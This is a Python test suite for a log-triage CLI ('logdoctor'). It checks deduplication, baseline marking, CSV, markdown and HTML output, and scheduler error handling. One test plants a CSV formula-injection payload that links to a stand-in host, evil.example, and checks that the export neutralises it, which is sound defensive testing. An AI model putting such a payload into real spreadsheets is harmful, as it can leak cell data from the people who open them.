"""Triage for a person acting on it (issue 23): the same log given twice counted once, --baseline marks new and
regressed signatures, integer line numbers, CSV cells that a spreadsheet would run neutralised, markdown as text, a
'$' in a host name (F11), and clean errors from the Dask scale-out. Runs the CLI as a subprocess on real files."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import socket
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest

pytest.importorskip("pandas")
pytest.importorskip("matplotlib")

ROOT = Path(__file__).resolve().parent.parent
FIX = ROOT / "fixtures" / "journals"
SEED = FIX / "seed-all-attempts" / "journal.log"  # 3 failed attempts on h200-qwen-03
PORT = FIX / "sglang-port_in_use-http-attempts" / "journal.log"
XID = FIX / "sglang-hardware_fault-xid94-serving" / "journal.log"


def triage(*args, timeout=300):
    p = subprocess.run(
        [sys.executable, "-m", "logdoctor", "triage", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=ROOT,
    )
    return p.returncode, p.stdout, p.stderr


def _folder(tmp_path: Path, logs: dict[str, Path | str]) -> Path:
    d = tmp_path / "logs"
    for name, src in logs.items():
        (d / name).mkdir(parents=True)
        (d / name / "engine.log").write_text(src if isinstance(src, str) else src.read_text())
    return d


def test_the_same_log_in_a_folder_and_its_tarball_is_counted_once(tmp_path):
    d = _folder(tmp_path, {"a": SEED, "b": PORT})
    tar = tmp_path / "logs.tar.gz"
    with tarfile.open(tar, "w:gz") as t:
        t.add(d, arcname="logs")
    _, once, _ = triage(d)
    rc, twice, err = triage(d, tar)
    assert rc == 0, err

    def counts(table: str) -> tuple[str, str]:
        m = re.search(r"; (\d+) attempts, (\d+) failed, (\d+) hosts", table)
        assert m, table
        return m.groups()

    assert counts(once) == counts(twice) and int(counts(once)[0]) >= 4
    assert re.search(r"(\d+) attempts seen in two inputs \(the same log twice\) counted once", twice)
    sig_once = re.findall(r"^ +(\d+) +(\S+:\w{8})", once, re.M)
    assert sig_once and sig_once == re.findall(r"^ +(\d+) +(\S+:\w{8})", twice, re.M)
    # the row exports keep one row per attempt per input (where each was found)
    _, rows_once, _ = triage(d, "--format", "json")
    _, rows_twice, _ = triage(d, tar, "--format", "json")
    assert len(json.loads(rows_twice)["attempts"]) == 2 * len(json.loads(rows_once)["attempts"])


def test_baseline_marks_new_and_regressed_signatures(tmp_path):
    first = _folder(tmp_path / "1", {"a": SEED})
    prev = tmp_path / "prev.json"
    assert triage(first, "--format", "json", "--out", prev)[0] == 0
    # later: the seed again (same signatures, same counts: seen), plus a port clash (new) and the seed's log on a
    # second host (its signatures regressed: more attempts, a new host)
    later = _folder(
        tmp_path / "2", {"a": SEED, "b": PORT, "c": SEED.read_text().replace("h200-qwen-03", "h200-qwen-09")}
    )
    rc, md, err = triage(later, "--format", "markdown", "--baseline", prev)
    assert rc == 0, err
    rows = [ln for ln in md.splitlines() if ln.startswith("| ") and "`" in ln]
    port = [r for r in rows if "port_in_use:" in r]
    seed = [r for r in rows if "kv_cache_oom:" in r]
    assert port and all("**new**" in r for r in port)
    assert seed and all("**regressed**" in r for r in seed)
    rc, table, _ = triage(first, "--baseline", prev)
    assert "[NEW]" not in table and "[REGRESSED]" not in table and "against" in table
    rc, _, err = triage(first, "--baseline", SEED)
    assert rc == 2 and "not a triage JSON report" in err and len(err.strip().splitlines()) == 1


def test_csv_neutralises_formulas_and_flattens_cells(tmp_path):
    evil = '=HYPERLINK("http://evil.example/"&A1,"open")'
    d = _folder(tmp_path, {"a": XID.read_text().replace("h200-gpu-16", evil.replace(" ", ""))})
    rc, out, err = triage(d, "--format", "csv")
    assert rc == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(not (r["host"] or "x").startswith(("=", "+", "-", "@")) for r in rows)
    assert any(r["host"].startswith("'=HYPERLINK") for r in rows)
    assert len(out.strip().splitlines()) == len(rows) + 1  # no newline inside a cell
    assert all(re.fullmatch(r"\d*", r["evidence_line"]) for r in rows)  # 34, never 34.0


def test_markdown_is_text_with_integer_lines(tmp_path):
    d = _folder(tmp_path, {"a": PORT, "b": SEED})
    rc, md, _ = triage(d, "--format", "markdown")
    assert rc == 0
    assert "&quot;" not in md and "&#x27;" not in md and "&lt;" not in md
    assert not re.search(r"\.log:\d+\.0\b", md)
    assert re.search(r"engine\.log:\d+ ", md)
    assert "first fix or action" in md


def test_a_dollar_in_a_host_name_never_costs_the_report(tmp_path):
    d = _folder(tmp_path, {"a": SEED.read_text().replace("h200-qwen-03", r"gpu$\undefinedmacro$host"), "b": PORT})
    out = tmp_path / "r.html"
    rc, _, err = triage(d, "--format", "html", "--out", out)
    assert rc == 0, err
    html = out.read_text()
    assert r"gpu$\undefinedmacro$host" in html and "(no host)" not in html


def test_an_unreachable_scheduler_is_a_one_line_usage_error(tmp_path):
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    t0 = time.monotonic()
    rc, out, err = triage(SEED, "--scheduler", f"tcp://127.0.0.1:{port}", timeout=120)
    assert rc == 2 and out == ""
    assert len(err.strip().splitlines()) == 1 and "cannot reach the Dask scheduler" in err, err
    assert "Traceback" not in err and "-v" not in err
    assert time.monotonic() - t0 < 40
    rc, _, err = triage(SEED, "--scheduler", "nonsense")
    assert rc == 2 and "local, local:N or an address" in err and len(err.strip().splitlines()) == 1


def test_scheduler_local_starts_a_cluster_with_the_local_rows(tmp_path):
    pytest.importorskip("distributed")
    d = _folder(tmp_path, {"a": SEED, "b": PORT})
    _, here, _ = triage(d, "--format", "json")
    rc, there, err = triage(d, "--format", "json", "--scheduler", "local:1", timeout=240)
    assert rc == 0, err
    assert "Traceback" not in err
    key = lambda r: (r["source"], r["attempt"])  # noqa: E731
    assert sorted(json.loads(there)["attempts"], key=key) == sorted(json.loads(here)["attempts"], key=key)


def test_an_internal_error_is_one_line_and_debug_shows_the_traceback(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from logdoctor.cli.commands.triage import triage_cmd
    from logdoctor.triage import report

    def boom(*_a, **_k):
        raise RuntimeError("synthetic failure")

    monkeypatch.setattr(report, "markdown", boom)
    r = CliRunner().invoke(triage_cmd, [str(SEED), "--format", "markdown", "--jobs", "1"])
    assert r.exit_code == 4
    assert "internal error (RuntimeError: synthetic failure)" in r.output and "--debug" in r.output
    assert "Traceback" not in r.output
    r = CliRunner().invoke(triage_cmd, [str(SEED), "--format", "markdown", "--jobs", "1", "--debug"])
    assert r.exit_code == 4 and "Traceback" in r.output


def test_no_host_rows_are_named_by_their_file(tmp_path):
    paste = FIX / "sglang-kv_cache_oom-qwen72b-paste" / "journal.log"
    d = _folder(tmp_path, {"node13": paste, "b": SEED})
    rc, out, _ = triage(d)
    assert rc == 0 and "node13/engine.log" in out
    shutil.rmtree(d)
